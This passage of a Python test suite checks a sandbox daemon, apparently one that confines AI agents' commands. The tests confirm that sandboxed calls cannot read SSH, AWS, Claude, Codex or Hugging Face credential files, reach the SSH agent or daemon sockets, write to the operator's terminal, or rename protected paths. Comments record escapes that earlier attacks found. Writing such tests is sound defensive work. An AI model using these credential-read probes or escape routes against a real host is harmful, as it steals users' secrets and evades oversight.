            with cgtest.Daemon(env={"SSH_AUTH_SOCK": agent}) as d:
                probe = os.path.join(d.workspace, "probe.py")
                with open(probe, "w") as f:
                    f.write(PROBE)
                resp = d.request(cgtest.make_request(
                    [[PY, probe, "agent=" + connect_expr(agent)]], privileged=False),
                    timeout=60)
                self.assertEqual(resp["status"], "ok", resp)
                out = base64.b64decode(resp.get("stdout", "")).decode()
                self.assertNotIn("agent OK", out)
                self.assertFalse(accepted_any(a), "a call that never asked reached the agent")
                # An agent that makes its socket anew while a call runs (a restart):
                # a cover on the old socket alone had let the call reach it (s39e).
                loop = "exec(%r)" % ("import socket, time\n"
                                     "for _ in range(30):\n"
                                     "    s = socket.socket(socket.AF_UNIX)\n"
                                     "    try:\n"
                                     "        s.connect(%r); print('CONNECTED'); break\n"
                                     "    except OSError:\n"
                                     "        time.sleep(0.1)\n" % agent)
                box = {}
                t = threading.Thread(target=lambda: box.update(r=d.request(
                    cgtest.make_request([[PY, "-c", loop]], privileged=False), timeout=60)))
                t.start()
                time.sleep(1)
                a.close()
                os.unlink(agent)
                a = unix_listener(agent)
                t.join(60)
                self.assertEqual(box["r"]["status"], "ok", box)
                self.assertNotIn("CONNECTED", base64.b64decode(box["r"].get("stdout", "")).decode())
            self.assertFalse(accepted_any(a), "a call reached the agent's new socket")
        finally:
            a.close()
            shutil.rmtree(run_dir, ignore_errors=True)

    def test_agent_socket_granted_only_with_forward_agent(self):
        run_dir = tempfile.mkdtemp(prefix="cg-agent-", dir="/run")
        agent = os.path.join(run_dir, "agent.sock")
        other = os.path.join(run_dir, "other.sock")
        a, o = unix_listener(agent), unix_listener(other)
        try:
            with cgtest.Daemon(env={"SSH_AUTH_SOCK": agent}) as d:
                probe = os.path.join(d.workspace, "probe.py")
                with open(probe, "w") as f:
                    f.write(PROBE)
                ops = {"agent": connect_expr(agent), "other": connect_expr(other)}
                argv = [PY, probe] + [f"{k}={v}" for k, v in ops.items()]
                # Asking is not enough: the agent signs with every key it holds,
                # so a human decides, or a grant one opened (s39a: any allowed
                # call that asked had listed, used and wiped the keys).
                resp = d.request(cgtest.make_request([argv], privileged=False,
                                                     forward_agent=True), timeout=60)
                self.assertEqual(resp["reply"]["code"], "EN-EXEC-D-004", resp)
                self.assertIn("forward-agent", resp["reply"]["message"])
                self.assertFalse(accepted_any(a), "an ungranted call reached the agent")
                # Through a symlinked python3 too: the grant holds the program it resolves to.
                r = d.cli("grant", "open", "--exe", PY, "--argv", PY, probe, "**",
                          "--forward-agent", "--uses", "1", "--ttl", "60")
                self.assertEqual(r.returncode, 0, r.stderr)
                res = {}
                for fwd in (True, False):
                    resp = d.request(cgtest.make_request([argv], privileged=False,
                                                         forward_agent=fwd), timeout=60)
                    self.assertEqual(resp["status"], "ok", resp)
                    out = base64.b64decode(resp.get("stdout", "")).decode()
                    res[fwd] = dict(line.split(" ", 1) for line in out.splitlines())
            self.assertEqual(res[True], {"agent": "OK", "other": "ENOENT"})
            self.assertEqual(res[False], {"agent": "EACCES", "other": "EACCES"})
            self.assertTrue(accepted_any(a))
            self.assertFalse(accepted_any(o), "a call reached a socket it was not granted")
        finally:
            a.close()
            o.close()
            shutil.rmtree(run_dir, ignore_errors=True)


def sandbox(*args, env=None, cwd=None):
    return subprocess.run([CALLGATE, "sandbox", *args], capture_output=True, text=True,
                          timeout=60, env=env, cwd=cwd)


@unittest.skipUnless(PY, "needs python3")
class ViewThroughSandbox(unittest.TestCase):
    def setUp(self):
        self.ws = tempfile.mkdtemp(prefix="cg-view-ws-", dir="/var/tmp")
        self.outside = tempfile.mkdtemp(prefix="cg-view-out-", dir="/var/tmp")
        self.home = tempfile.mkdtemp(prefix="cg-view-home-", dir="/var/tmp")
        for d in (self.ws, self.outside, self.home):
            os.chmod(d, 0o755)

    def tearDown(self):
        for d in (self.ws, self.outside, self.home):
            shutil.rmtree(d, ignore_errors=True)

    def probe(self, flags, env=None, **ops):
        r = sandbox(*flags, "--", PY, "-c", PROBE, *[f"{k}={v}" for k, v in ops.items()],
                    env=env, cwd=self.ws)
        res = dict(line.split(" ", 1) for line in r.stdout.splitlines())
        self.assertEqual(set(res), set(ops), r.stderr)
        return res

    def test_killed_before_its_command_started(self):
        # The view's pid 1 is killed while it builds the view (a test-only
        # stall keeps it there): the command never ran, and sandbox says so
        # (exit 70), not "killed by signal 9" as if the command had been.
        made = os.path.join(self.ws, "ran")
        env = dict(os.environ, CALLGATE_TEST_VIEW_STALL_MS="5000")
        p = subprocess.Popen([CALLGATE, "sandbox", "--write", self.ws, "--", "/usr/bin/touch",
                              made], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True, env=env, cwd=self.ws)
        deadline = time.monotonic() + 10
        pid1 = None
        while pid1 is None and time.monotonic() < deadline:
            try:
                with open("/proc/%d/task/%d/children" % (p.pid, p.pid)) as f:
                    kids = [int(x) for x in f.read().split()]
            except OSError:
                kids = []
            pid1 = kids[0] if kids else None
            time.sleep(0.02)
        self.assertIsNotNone(pid1, "no pid 1")
        os.kill(pid1, signal.SIGKILL)
        out, err = p.communicate(timeout=60)
        self.assertEqual(p.returncode, 70, err)
        self.assertIn("never started", err)
        self.assertFalse(os.path.exists(made))

    def test_credential_stores_absent(self):
        for rel in (".ssh/id_ed25519", ".aws/credentials", ".netrc", ".kube/config",
                    ".bash_history", ".codex/auth.json", ".claude/.credentials.json",
                    ".claude.json", ".m2/settings.xml", ".cache/huggingface/token",
                    ".config/github-copilot/apps.json"):
            p = os.path.join(self.home, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "w") as f:
                f.write("SECRET")
        with open(os.path.join(self.home, "notes.txt"), "w") as f:
            f.write("fine")
        env = dict(os.environ, HOME=self.home)
        res = self.probe(["--write", self.ws], env=env,
                         ssh=f"open({self.home + '/.ssh/id_ed25519'!r}).read()",
                         ls_ssh=f"os.listdir({self.home + '/.ssh'!r})",
                         aws=f"open({self.home + '/.aws/credentials'!r}).read()",
                         netrc=f"open({self.home + '/.netrc'!r}).read()",
                         history=f"open({self.home + '/.bash_history'!r}).read()",
                         codex=f"open({self.home + '/.codex/auth.json'!r}).read()",
                         claude=f"open({self.home + '/.claude/.credentials.json'!r}).read()",
                         # tokens found readable in s36's attack
                         claude_json=f"open({self.home + '/.claude.json'!r}).read()",
                         m2=f"open({self.home + '/.m2/settings.xml'!r}).read()",
                         hf=f"open({self.home + '/.cache/huggingface/token'!r}).read()",
                         copilot=f"open({self.home + '/.config/github-copilot/apps.json'!r})"
                                 ".read()",
                         control=f"open({self.home + '/notes.txt'!r}).read()")
        self.assertEqual(res, {"ssh": "EACCES", "ls_ssh": "EACCES", "aws": "EACCES",
                               "netrc": "EACCES", "history": "EACCES", "codex": "EACCES",
                               "claude": "EACCES", "claude_json": "EACCES", "m2": "EACCES",
                               "hf": "EACCES", "copilot": "EACCES", "control": "OK"})
        # s44a F2: stores that were read and sent back, every one of the
        # catalog's, made here; and git's credential cache answers nobody.
        import re
        with open(os.path.join(os.path.dirname(__file__), "..", "..", "src", "confine",
                               "view.c")) as f:
            body = re.search(r"home_secrets\[\] = \{(.*?)\};", f.read(), re.S).group(1)
        catalog = re.findall(r'"([^"]+)"', body)
        self.assertIn(".config/containers/auth.json", catalog)
        probes = {}
        for i, rel in enumerate(catalog):
            p = os.path.join(self.home, rel)
            up = os.path.dirname(p)
            while up != self.home and not os.path.lexists(up):
                up = os.path.dirname(up)
            if os.path.lexists(p) or not os.path.isdir(up):
                continue  # made already, or inside a store made as a file
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "w") as f:
                f.write("SECRET")
            probes["s%d" % i] = f"open({p!r}).read()"
        cache = os.path.join(self.home, ".cache", "git", "credential")
        os.unlink(cache)
        os.makedirs(cache)
        srv = socket.socket(socket.AF_UNIX)
        srv.bind(os.path.join(cache, "socket"))
        srv.listen(1)
        srv.setblocking(False)
        self.addCleanup(srv.close)
        probes["cache"] = ("__import__('socket').socket(__import__('socket').AF_UNIX)"
                           f".connect({os.path.join(cache, 'socket')!r})")
        res = self.probe(["--write", self.ws], env=env, **probes)
        self.assertEqual(set(res.values()), {"EACCES"}, res)
        self.assertEqual(len(res), len(probes))
        self.assertFalse(accepted_any(srv))
        # And through a tool that copies trees: nothing comes out.
        r = sandbox("--write", self.ws, "--", "cp", "-r", self.home, self.ws + "/copy",
                    env=env, cwd=self.ws)
        self.assertNotEqual(r.returncode, 0)
        self.assertFalse(os.path.exists(os.path.join(self.ws, "copy", ".ssh", "id_ed25519")))
        self.assertTrue(os.path.exists(os.path.join(self.ws, "copy", "notes.txt")))

    def test_hide_and_protect_flags(self):
        secret = os.path.join(self.outside, "secret.txt")
        with open(secret, "w") as f:
            f.write("s")
        with open(os.path.join(self.ws, "Makefile"), "w") as f:
            f.write("all:\n")
        res = self.probe(["--write", self.ws, "--hide", self.outside + "/secret*",
                          "--protect", "Makefile"],
                         hidden=f"open({secret!r}).read()",
                         protected=f"open({self.ws + '/Makefile'!r}, 'a').write('x')",
                         control=f"open({self.ws + '/other'!r}, 'w').write('x')")
        self.assertEqual(res, {"hidden": "EACCES", "protected": "EROFS", "control": "OK"})

    def test_no_path_flag_still_scopes_abstract_sockets(self):
        # With no --read/--write the sandbox made no Landlock ruleset, so
        # nothing was scoped: a host service on an abstract Unix socket
        # answered (found by attack, s34e). Needs Landlock ABI 6.
        name = "\0cg-test-abs-%d" % os.getpid()
        lst = unix_listener(name)
        try:
            r = sandbox("--report", os.path.join(self.ws, "rep.json"), "--", PY, "-c", PROBE,
                        "abs=" + connect_expr(name), cwd=self.ws)
            with open(os.path.join(self.ws, "rep.json")) as f:
                abi = json.load(f)["landlock"]["abi"]
            if abi < 6:
                self.skipTest("Landlock cannot scope here (ABI %d < 6)" % abi)
            self.assertIn("abs EPERM", r.stdout, r.stderr)
            self.assertFalse(accepted_any(lst), "the host's abstract socket saw a connection")
        finally:
            lst.close()

    def test_a_protected_paths_parents_cannot_be_renamed_away(self):
        # Renaming sub/ carried sub/Makefile's read-only mount away, and a
        # new sub/Makefile was written in its place (found by attack, s34e).
        os.makedirs(os.path.join(self.ws, "sub"))
        mk = os.path.join(self.ws, "sub", "Makefile")
        with open(mk, "w") as f:
            f.write("all:\n")
        res = self.probe(["--write", self.ws, "--protect", "sub/Makefile"],
                         mv=f"os.rename({self.ws + '/sub'!r}, {self.ws + '/moved'!r})",
                         write=f"open({mk!r}, 'a').write('x')",
                         control=f"open({self.ws + '/sub/other'!r}, 'w').write('x')")
        self.assertEqual(res, {"mv": "EBUSY", "write": "EROFS", "control": "OK"})
        with open(mk) as f:
            self.assertEqual(f.read(), "all:\n")

    def test_a_hidden_paths_parents_cannot_be_renamed_away(self):
        # A path is hidden by name when the next view is built: renaming its
        # parent in a write tree once moved it out of every later view's
        # reach. Its parents are mount points now, so the rename fails, and
        # a second call sees the secret under no name.
        secret_dir = os.path.join(self.ws, "cfg", "gh")
        os.makedirs(secret_dir)
        with open(os.path.join(secret_dir, "hosts.yml"), "w") as f:
            f.write("oauth_token: SECRET")
        flags = ["--write", self.ws, "--hide", secret_dir]
        res = self.probe(flags,
                         mv=f"os.rename({self.ws + '/cfg'!r}, {self.ws + '/moved'!r})",
                         control=f"open({self.ws + '/cfg/other'!r}, 'w').write('x')")
        self.assertEqual(res, {"mv": "EBUSY", "control": "OK"})
        self.assertTrue(os.path.isdir(secret_dir))
        self.assertFalse(os.path.exists(os.path.join(self.ws, "moved")))
        res = self.probe(flags, read=f"open({secret_dir + '/hosts.yml'!r}).read()")
        self.assertEqual(res, {"read": "EACCES"})
        # Nested write trees: the directories between the outer tree and the
        # inner one are anchored too (the inner tree's mount is no anchor).
        inner = os.path.join(self.ws, "a", "inner")
        store = os.path.join(inner, "c", "store")
        os.makedirs(store)
        nested = ["--write", self.ws, "--write", inner, "--hide", store]
        res = self.probe(nested, mv=f"os.rename({self.ws + '/a'!r}, {self.ws + '/a2'!r})")
        self.assertEqual(res, {"mv": "EBUSY"})
        self.assertTrue(os.path.isdir(store))

    def test_tmp_private_and_shared(self):
        fd, host = tempfile.mkstemp(prefix="cg-view-", dir="/tmp")
        os.close(fd)
        try:
            res = self.probe(["--write", self.ws], see=f"os.stat({host!r})")
            self.assertEqual(res, {"see": "ENOENT"})
            res = self.probe(["--write", self.ws, "--tmp", "shared"],
                             see=f"os.stat({host!r})", rm=f"os.unlink({host!r})")
            self.assertEqual(res, {"see": "OK", "rm": "EROFS"})
            self.assertTrue(os.path.exists(host))
        finally:
            os.unlink(host)

    def test_each_layer_alone_stops_a_write_outside(self):
        target = os.path.join(self.outside, "x")
        op = f"open({target!r}, 'w').write('x')"
        inside = f"open({self.ws + '/y'!r}, 'w').write('y')"
        both = self.probe(["--write", self.ws], out=op, control=inside)
        view = self.probe(["--write", self.ws, "--no-landlock"], out=op, control=inside)
        landlock = self.probe(["--write", self.ws, "--no-view"], out=op, control=inside)
        self.assertEqual(both, {"out": "EROFS", "control": "OK"})
        self.assertEqual(view, {"out": "EROFS", "control": "OK"})
        self.assertEqual(landlock, {"out": "EACCES", "control": "OK"})
        self.assertFalse(os.path.exists(target))

    def test_pid_uts_ipc_namespaces(self):
        r = sandbox("--write", self.ws, "--", "sh", "-c", "ps -e --no-headers | wc -l; hostname",
                    cwd=self.ws)
        lines = r.stdout.split()
        self.assertEqual(lines[1], "callgate", r.stderr)
        self.assertLessEqual(int(lines[0]), 5, r.stdout)
        self.assertNotEqual(socket.gethostname(), "callgate")

    @unittest.skipUnless(os.geteuid() == 0, "needs root to become nobody")
    def test_unprivileged_caller_gets_the_view_in_a_user_namespace(self):
        os.chown(self.ws, NOBODY, NOBODY)
        target = os.path.join(self.outside, "x")
        r = subprocess.run([CALLGATE, "sandbox", "--write", self.ws, "--report", "-", "--",
                            "sh", "-c", f"ls /run; echo y > {self.ws}/y; echo z > {target}; "
                            "hostname"], capture_output=True, text=True, timeout=60,
                           cwd=self.ws, user=NOBODY, group=NOBODY, extra_groups=[],
                           env=dict(os.environ, HOME=self.home))
        self.assertIn('"user_namespace":true', r.stderr)
        self.assertIn("/run': Permission denied", r.stderr)
        self.assertIn("Read-only file system", r.stderr)
        self.assertEqual(r.stdout, "callgate\n", r.stderr)
        self.assertTrue(os.path.exists(os.path.join(self.ws, "y")))
        self.assertFalse(os.path.exists(target))

    @unittest.skipUnless(os.geteuid() == 0 and shutil.which("ip"), "needs root and iproute2")
    def test_rtnetlink_cannot_change_the_hosts_network(self):
        """Host networking (no --net), root caller: no CAP_NET_ADMIN in the view."""
        before = subprocess.run(["ip", "-o", "link", "show", "lo"], capture_output=True,
                                text=True).stdout
        r = sandbox("--write", self.ws, "--", "sh", "-c",
                    "ip link show lo >/dev/null && echo control-ok; "
                    "ip link set dev lo mtu 1280", cwd=self.ws)
        self.assertEqual(r.stdout, "control-ok\n", r.stderr)
        self.assertIn("Operation not permitted", r.stderr)
        after = subprocess.run(["ip", "-o", "link", "show", "lo"], capture_output=True,
                               text=True).stdout
        self.assertEqual(before, after)

    def test_yes_head_ends_by_sigpipe(self):
        r = sandbox("--write", self.ws, "--", "sh", "-c", "yes | head -1", cwd=self.ws)
        self.assertEqual((r.returncode, r.stdout, r.stderr), (0, "y\n", ""))


if __name__ == "__main__":
    unittest.main()


@unittest.skipUnless(os.geteuid() == 0 and PY, "needs root and python3")
class DaemonFilesOutsideTmp(unittest.TestCase):
    """The daemon's own files are hidden wherever they live, not only under
    the private /tmp or the default /var/lib/callgate: its state dir and
    sockets are put under /var/tmp, which every view otherwise shows."""

    def test_state_dir_key_and_sockets_hidden_outside_tmp(self):
        d = cgtest.Daemon()
        home = tempfile.mkdtemp(prefix="cg-own-", dir="/var/tmp")
        os.chmod(home, 0o755)
        d.state_dir = os.path.join(home, "state")
        d.socket = os.path.join(home, "agent.sock")
        d.admin_socket = os.path.join(home, "admin.sock")
        try:
            d.start()
            probe = os.path.join(d.workspace, "probe.py")
            with open(probe, "w") as f:
                f.write(PROBE)
            key = os.path.join(d.state_dir, "keys", "evidence.key")
            self.assertTrue(os.path.exists(key))
            side = os.path.join(home, "visible.txt")  # the same tree, not the daemon's
            with open(side, "w") as f:
                f.write("x")
            argv = [PY, probe, f"key=open({key!r}).read()",
                    f"state=os.listdir({d.state_dir!r})",
                    "admin=" + connect_expr(d.admin_socket),
                    "agent=" + connect_expr(d.socket),
                    f"control=open({side!r}).read()"]
            resp = d.request(cgtest.make_request([argv], privileged=False), timeout=60)
            self.assertEqual(resp["status"], "ok", resp)
            out = base64.b64decode(resp.get("stdout", "")).decode()
            res = dict(line.split(" ", 1) for line in out.splitlines())
            self.assertEqual(res["control"], "OK", res)
            for what in ("key", "state", "admin", "agent"):
                self.assertNotEqual(res[what], "OK", (what, res))
        finally:
            d.close()
            shutil.rmtree(home, ignore_errors=True)


class InitProgram(unittest.TestCase):
    """callgate-init by effect, run directly: it waits for the command it is
    given, forwards a supervisor's signals to it, and exits with its status
    (128 + the signal when a signal ended it); bad arguments exit 127. On
    x86_64 it is built without a C library, so its system calls are its own."""

    @classmethod
    def setUpClass(cls):
        here = [os.path.join(os.path.dirname(cgtest.CALLGATED), "callgate-init"),
                os.path.join(cgtest.BUILDDIR, "callgate-init")]
        cls.init = next((p for p in here if os.access(p, os.X_OK)), None)
        if not cls.init:
            raise unittest.SkipTest("callgate-init is not next to callgated or in the build")

    def start(self, argv):
        """Fork a process that starts argv as its child, then execs
        callgate-init with that child's pid; returns the init's pid."""
        pid = os.fork()
        if pid == 0:
            try:
                child = os.fork()
                if child == 0:
                    os.execvp(argv[0], argv)
                os.execv(self.init, ["callgate-init", str(child)])
            finally:
                os._exit(126)
        return pid

    def wait_handlers(self, pid):
        """Until pid is callgate-init with its SIGTERM handler installed."""
        for _ in range(500):
            try:
                with open(f"/proc/{pid}/status") as f:
                    st = f.read()
                cgt = int(st.split("SigCgt:")[1].split()[0], 16)
                if os.readlink(f"/proc/{pid}/exe") == os.path.realpath(self.init) and \
                        cgt & (1 << (signal.SIGTERM - 1)):
                    return
            except (OSError, IndexError, ValueError):
                pass
            time.sleep(0.01)
        self.fail("callgate-init never installed its handlers")

    def status(self, pid):
        _, st = os.waitpid(pid, 0)
        return os.waitstatus_to_exitcode(st)

    def test_exits_with_the_commands_status(self):
        self.assertEqual(self.status(self.start(["sh", "-c", "exit 7"])), 7)
        self.assertEqual(self.status(self.start(["true"])), 0)

    def test_forwards_a_supervisors_signal(self):
        start = time.monotonic()
        pid = self.start(["sleep", "30"])
        self.wait_handlers(pid)
        os.kill(pid, signal.SIGTERM)
        self.assertEqual(self.status(pid), 128 + signal.SIGTERM)
        self.assertLess(time.monotonic() - start, 20, "the command was not signalled")

    def test_a_command_killed_by_a_signal_is_128_plus_it(self):
        pid = self.start(["sh", "-c", "kill -USR2 $$"])
        self.assertEqual(self.status(pid), 128 + signal.SIGUSR2)

    def test_bad_arguments_exit_127(self):
        for args in ([], ["x"], ["1"], ["-5"], ["12a"], ["4194305"], ["2", "3"],
                     [str(2 ** 40)]):
            p = subprocess.run([self.init] + args, timeout=10)
            self.assertEqual(p.returncode, 127, args)
        # A pid that is not its child: waiting fails, 127 (never hangs).
        p = subprocess.run([self.init, "99999"], timeout=10)
        self.assertEqual(p.returncode, 127)


class NoControllingTerminal(unittest.TestCase):
    """Started from a shell on a terminal (as the README and scripts/demo
    start it), the daemon gives the terminal up: a confined call that opens
    /dev/tty cannot write to it or read what the operator types. Judged by
    what reaches the terminal."""

    def test_a_call_cannot_reach_the_terminal_the_daemon_was_started_on(self):
        import pty
        import select
        tmp = tempfile.mkdtemp(prefix="cg-tty-", dir="/tmp")
        self.addCleanup(shutil.rmtree, tmp, True)
        ws = os.path.join(tmp, "ws")
        os.mkdir(ws)
        sock = os.path.join(tmp, "cg.sock")
        daemon = ("%s --socket %s --state-dir %s --workspace %s --log stderr "
                  "2>%s/daemon.log & wait" % (cgtest.CALLGATED, sock,
                                              os.path.join(tmp, "state"), ws, tmp))
        pid, master = pty.fork()
        if pid == 0:  # a shell on the terminal, the daemon its background job
            os.execv("/bin/sh", ["sh", "-c", daemon])
        screen = b""
        try:
            deadline = time.monotonic() + 30
            while not os.path.exists(sock) and time.monotonic() < deadline:
                time.sleep(0.05)
            call = ("import os\n"
                    "try:\n"
                    "    fd = os.open('/dev/tty', os.O_RDWR)\n"
                    "    os.write(fd, b'INJECTED-BY-A-CALL')\n"
                    "    print('opened')\n"
                    "except OSError as e:\n"
                    "    print('refused', e.errno)\n")
            with open(os.path.join(ws, "tty.py"), "w") as f:
                f.write(call)
            s = cgtest.connect(sock, 30)
            s.sendall(cgtest.encode(cgtest.make_request([["python3", "tty.py"]],
                                                        privileged=False, cwd=ws)))
            resp = cgtest.parse_response(cgtest.recv_all(s))
            self.assertEqual(resp["status"], "ok", resp)
            out = base64.b64decode(resp["stdout"])
            self.assertTrue(out.startswith(b"refused"), out)
            end = time.monotonic() + 0.5
            while time.monotonic() < end:
                if select.select([master], [], [], 0.1)[0]:
                    try:
                        screen += os.read(master, 65536)
                    except OSError:
                        break
            self.assertNotIn(b"INJECTED", screen)
        finally:
            os.kill(pid, signal.SIGTERM)
            subprocess.run(["pkill", "-f", "--", "--socket " + sock], check=False)
            os.waitpid(pid, 0)
            os.close(master)


class StateInsideAWorkspaceUnderTmp(unittest.TestCase):
    """A workspace under /tmp is bound into the call's private /tmp, and what
    must be hidden in it is hidden there too: once every path under /tmp was
    skipped, and a read-only command returned the daemon's signing key when
    its state dir lay in such a workspace. Judged by the bytes that come
    back."""

    def test_key_and_sockets_in_the_workspace_stay_hidden(self):
        d = cgtest.Daemon()
        d.workspaces = [d.tmp]  # state/, the sockets: all inside the workspace
        with d:
            keys = [os.path.join(dp, f) for dp, _, fs in os.walk(d.state_dir) for f in fs
                    if "key" in f]
            self.assertTrue(keys, os.listdir(d.state_dir))
            secret = open(keys[0], "rb").read()
            resp = d.request(cgtest.make_request([["cat", keys[0]]], privileged=False,
                                                 cwd=d.tmp))
            out = base64.b64decode(resp.get("stdout", ""))
            self.assertNotIn(secret[:32], out, resp)
            self.assertNotEqual(resp.get("stages", [{}])[0].get("exit_code"), 0, resp)
            probe = cgtest.make_request([["python3", "-c",
                                          "import socket,sys; s=socket.socket(socket.AF_UNIX);"
                                          "s.connect(sys.argv[1]); print('connected')",
                                          d.socket]], privileged=False, cwd=d.tmp)
            r = d.request(probe)
            self.assertNotIn(b"connected", base64.b64decode(r.get("stdout", "")), r)
            # The socket's lock file is the replay mark a successor starts
            # from: a call that could set its time back replayed a request.
            lock = d.socket + ".lock"
            before = os.stat(lock).st_mtime_ns
            t = d.request(cgtest.make_request([["touch", "-d", "2001-01-01", lock]],
                                              privileged=False, cwd=d.tmp))
            self.assertNotEqual(t.get("stages", [{}])[0].get("exit_code"), 0, t)
            self.assertGreaterEqual(os.stat(lock).st_mtime_ns, before)
